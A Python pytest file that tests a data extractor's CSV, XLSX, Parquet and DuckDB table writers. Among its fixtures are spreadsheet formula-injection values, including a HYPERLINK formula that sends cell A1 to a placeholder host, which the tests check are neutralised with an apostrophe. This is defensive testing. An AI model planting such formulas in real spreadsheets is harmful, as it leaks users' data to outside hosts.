"""Table files: what stands in them, their types, and that they appear whole or not at all."""

from __future__ import annotations

import csv
import tempfile
from collections.abc import Iterator
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extractor.tables import Headings, NotWritten, Table, UnknownFormat, number_table, panel, write, write_tables
from extractor.tables.columns import number_columns
from schemas import Evidence, Result
from tests.tables.made import commitment, indicator, quantity, result

FORMULA = '=HYPERLINK("http://host/"&A1,"增长")'
HOSTILE = result(
    indicator(name=FORMULA, canonical=None, change=quantity(-2.3, raw="-2.3%")),
    indicator(change=quantity(8), evidence=Evidence(quote='\t引"号",\r\n换行', start=0, end=9)),
    source="@SUM(A1).txt",
)
ENDINGS = [".csv", ".xlsx", ".parquet", ".duckdb"]


@pytest.fixture
def full_disk() -> Iterator[None]:
    """No file may grow beyond a few bytes, as if the disk were full."""
    resource = pytest.importorskip("resource")
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4_000, limits[1]))
    yield
    resource.setrlimit(resource.RLIMIT_FSIZE, limits)


def numbers(*results: Result) -> Table:
    return number_table((each, None) for each in results)


def written(path: Path, *tables: Table, headings: Headings = Headings.ENGLISH) -> Path:
    write_tables(path, tables, headings)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


# CSV


def test_csv_begins_with_the_mark_by_which_excel_knows_utf_8(tmp_path: Path) -> None:
    data = written(tmp_path / "t.csv", numbers(HOSTILE), headings=Headings.CHINESE).read_bytes()
    assert data.startswith('\ufeff"地区","地区代码",'.encode())
    assert data.count(b"\xef\xbb\xbf") == 1


def test_csv_holds_every_number_of_a_report(tmp_path: Path, seed_result: Result) -> None:
    table = numbers(seed_result)
    rows = read_csv(written(tmp_path / "t.csv", table))
    assert [float(row["value"]) for row in rows] == table.frame["value"].to_list()
    assert [row["evidence"].removeprefix("'") for row in rows] == table.frame["evidence"].to_list()
    assert [row["page"] for row in rows] == [""] * len(rows)


def test_what_may_be_run_is_quoted_and_gets_an_apostrophe(tmp_path: Path) -> None:
    path = written(tmp_path / "t.csv", numbers(HOSTILE))
    first, second = read_csv(path)
    assert first["name"] == "'" + FORMULA
    assert first["raw"] == "'-2.3%"
    assert first["source"] == "'@SUM(A1).txt"
    assert second["evidence"] == '\'\t引"号",\r\n换行'
    assert "'" + FORMULA.replace('"', '""') in path.read_text(encoding="utf-8-sig")


def test_a_unit_in_a_heading_may_not_run_either(tmp_path: Path) -> None:
    made = panel(numbers(result(indicator(value=quantity(8, "亿;=1+1")))))
    text = written(tmp_path / "t.csv", made.table).read_text(encoding="utf-8-sig")
    assert text.splitlines()[0].endswith(""","gdp_outcome (亿;'=1+1)\"""")


def test_a_negative_number_stays_a_number(tmp_path: Path) -> None:
    path = written(tmp_path / "t.csv", numbers(HOSTILE))
    assert read_csv(path)[0]["value"] == "-2.3"
    assert ",-2.3," in path.read_text(encoding="utf-8-sig")


def _begins_formula(cell: str) -> bool:
    return cell.lstrip(' \t\r\n"\u3000\x0b')[:1] in tuple("=+-@＝")


@settings(max_examples=100)
@given(
    st.lists(st.text(alphabet=st.sampled_from("=+-@＝\t\r\n ,;\"'\u3000\x0b增1"), min_size=1, max_size=8), min_size=1, max_size=4)
)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_the_program_takes_for_separators(separator: str, names: list[str]) -> None:
    records = [indicator(name=name, region=name, canonical=None, change=quantity(8)) for name in names]
    with tempfile.TemporaryDirectory() as folder:
        path = written(Path(folder) / "t.csv", numbers(result(*records)))
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file, delimiter=separator) for cell in row]
    assert [cell for cell in cells if _begins_formula(cell)] == []


# Parquet and DuckDB


def test_parquet_is_typed_and_holds_the_text_as_it_is(tmp_path: Path) -> None:
    table = numbers(HOSTILE)
    frame = pl.read_parquet(written(tmp_path / "t.parquet", table))
    assert frame.equals(table.frame)
    assert frame.schema == table.frame.schema
    assert frame["name"][0] == FORMULA


def test_duckdb_is_typed_and_holds_both_tables(tmp_path: Path, seed_result: Result) -> None:
    table = numbers(seed_result)
    path = written(tmp_path / "t.duckdb", table, panel(table).table)
    with duckdb.connect(path, read_only=True) as database:
        types = dict(database.sql("select column_name, column_type from (describe numbers)").fetchall())
        assert {types[name] for name in ("region", "evidence", "link")} == {"VARCHAR"}
        assert {types[name] for name in ("value", "upper", "base_value")} == {"DOUBLE"}
        assert {types[name] for name in ("first_year", "start", "page")} == {"BIGINT"}
        assert database.sql("from numbers").fetchall() == table.frame.rows()
        assert database.sql("from panel").fetchall() == panel(table).table.frame.rows()


def test_duckdb_answers_questions_under_chinese_headings(tmp_path: Path) -> None:
    made = numbers(result(indicator(value=quantity(830.6, "亿元"), change=quantity(8.1))))
    path = written(tmp_path / "t.duckdb", made, headings=Headings.CHINESE)
    with duckdb.connect(path, read_only=True) as database:
        assert database.sql("select 数值 from numbers where 度量 = 'change' and 截止年 = 2023").fetchall() == [(8.1,)]


@pytest.mark.parametrize("ending", [".csv", ".parquet"])
def test_one_table_a_file_is_the_last(tmp_path: Path, ending: str) -> None:
    made = numbers(result(commitment(change=quantity(7))))
    path = written(tmp_path / f"t{ending}", made, panel(made).table)
    frame = pl.read_csv(path) if ending == ".csv" else pl.read_parquet(path)
    assert frame.rows() == [("郑州市", 410100 if ending == ".csv" else "410100", "city", 2024, None, 7.0)]


# All formats


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_file_is_made_with_its_folders_and_nothing_else(tmp_path: Path, ending: str) -> None:
    path = written(tmp_path / "new" / "folder" / f"数字[1]*{ending.upper()}", numbers(HOSTILE))
    assert path.stat().st_size > 0
    assert list(path.parent.iterdir()) == [path]


@pytest.mark.parametrize("ending", ENDINGS)
def test_an_older_file_is_replaced(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"t{ending}"
    path.write_bytes(b"old" * 100_000)
    written(path, numbers(HOSTILE))
    assert b"oldold" not in path.read_bytes()


@pytest.mark.parametrize("ending", ENDINGS)
def test_who_reads_the_older_file_never_sees_half_of_a_new_one(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"t{ending}"
    path.write_bytes(b"old" * 100)
    with path.open("rb") as reader:
        written(path, numbers(HOSTILE))
        assert reader.read() == b"old" * 100


@pytest.mark.parametrize("ending", ENDINGS)
def test_what_fails_half_way_leaves_the_old_file_alone(tmp_path: Path, ending: str, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / f"t{ending}"
    path.write_bytes(b"old")

    def fail(part: Path, tables: object, headings: object) -> None:
        part.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(write.FORMATS, ending, write.Format(fail, "polars"))
    with pytest.raises(NotWritten) as caught:
        written(path, numbers(HOSTILE))
    assert caught.value.message == f"{path} could not be written: No space left on device."
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.usefixtures("full_disk")
@pytest.mark.parametrize("ending", ENDINGS)
def test_a_full_disk_is_told_in_a_sentence(tmp_path: Path, ending: str) -> None:
    with pytest.raises(NotWritten, match="could not be written"):
        written(tmp_path / f"t{ending}", numbers(*[HOSTILE] * 2000))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("place", ["file.txt/t", "/proc/nowhere/t", "folder"])
@pytest.mark.parametrize("ending", ENDINGS)
def test_a_place_that_cannot_be_written_is_named(tmp_path: Path, place: str, ending: str) -> None:
    (tmp_path / "file.txt").write_text("x", encoding="utf-8")
    (tmp_path / f"folder{ending}").mkdir()
    with pytest.raises(NotWritten) as caught:
        written(tmp_path / f"{place}{ending}", numbers(HOSTILE))
    assert f"{place}{ending} could not be written" in caught.value.message
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file.txt", f"folder{ending}"]


@pytest.mark.parametrize("name", ["table", "table.xls", "table.csv.gz", ".csv", ""])
def test_another_ending_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(UnknownFormat) as caught:
        written(tmp_path / name, numbers(HOSTILE))
    assert "is the name of no table" in caught.value.message
    assert caught.value.hint == "Let it end in .csv, .xlsx, .parquet or .duckdb."
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("headings", Headings)
def test_headings_are_those_asked_for(tmp_path: Path, headings: Headings) -> None:
    expected = [column.heading(headings) for column in number_columns()]
    assert pl.read_parquet(written(tmp_path / "t.parquet", numbers(), headings=headings)).columns == expected
    assert pl.read_csv(written(tmp_path / "t.csv", numbers(), headings=headings)).columns == expected
